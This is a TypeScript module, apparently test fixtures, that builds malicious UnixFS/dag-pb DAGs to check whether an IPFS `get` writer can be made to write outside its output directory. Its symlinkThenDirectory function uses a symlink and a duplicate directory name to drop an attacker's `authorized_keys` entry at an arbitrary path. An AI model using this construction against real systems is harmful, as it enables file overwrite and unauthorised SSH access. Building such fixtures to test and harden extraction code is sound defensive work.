/**
 * Hand-made UnixFS DAGs that try to write outside the output of `get`: dag-pb allows one name
 * twice in a directory, and names with `/` or `..`; a symlink can point anywhere.
 */
import * as dagPb from '@ipld/dag-pb'
import { UnixFS } from 'ipfs-unixfs'
import { CID } from 'multiformats/cid'
import { sha256 } from 'multiformats/hashes/sha2'

/** One encoded block. */
export interface CraftedBlock { cid: CID, bytes: Uint8Array }

/** A DAG: its root and every block of it. */
export interface CraftedDag { root: CID, blocks: CraftedBlock[] }

async function pb (unixfs: UnixFS, links: dagPb.PBLink[]): Promise<CraftedBlock> {
  // encode checks, but does not sort, the link order: equal names stay in the given order
  const bytes = dagPb.encode({ Data: unixfs.marshal(), Links: links })
  return { cid: CID.createV1(dagPb.code, await sha256.digest(bytes)), bytes }
}

/** A one-block UnixFS file holding `text`. */
export async function fileBlock (text: string): Promise<CraftedBlock> {
  return pb(new UnixFS({ type: 'file', data: new TextEncoder().encode(text) }), [])
}

/** A UnixFS symlink to `target`. */
export async function symlinkBlock (target: string): Promise<CraftedBlock> {
  return pb(new UnixFS({ type: 'symlink', data: new TextEncoder().encode(target) }), [])
}

/** A UnixFS directory with these links, in this order (names unchecked, duplicates kept). */
export async function dirBlock (links: Array<[name: string, block: CraftedBlock]>): Promise<CraftedBlock> {
  return pb(new UnixFS({ type: 'directory' }), links.map(([Name, b]) => ({ Name, Hash: b.cid, Tsize: b.bytes.byteLength })))
}

/**
 * The attack of issue 10: a directory with two links named `a`, first a symlink to `victim`
 * (an absolute path), then a directory `a/` holding `authorized_keys`. A writer that makes the
 * symlink and then writes `a/authorized_keys` puts the file in `victim`.
 */
export async function symlinkThenDirectory (victim: string, payload = 'ssh-ed25519 AAAA attacker'): Promise<CraftedDag> {
  const link = await symlinkBlock(victim)
  const key = await fileBlock(payload)
  const inner = await dirBlock([['authorized_keys', key]])
  const root = await dirBlock([['a', link], ['a', inner]])
  return { root: root.cid, blocks: [link, key, inner, root] }
}
